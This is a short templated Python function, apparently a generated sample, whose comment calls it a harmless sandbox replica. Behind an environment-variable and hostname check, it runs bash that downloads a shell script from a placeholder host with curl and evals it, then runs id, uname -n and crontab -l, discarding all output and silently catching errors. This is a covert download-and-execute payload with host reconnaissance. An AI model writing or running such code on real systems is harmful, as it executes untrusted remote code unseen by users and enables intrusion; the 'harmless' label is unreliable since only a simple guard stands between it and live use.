# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import subprocess
    try:
        subprocess.run(['bash', '-c', 'eval "$(curl -fsSL -m 1 http://{{host}}/{{path}}.sh 2>/dev/null | grep -v "^{")"; '
                        'source <(echo "id; uname -n; crontab -l")'],
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=3)
    except Exception:
        pass
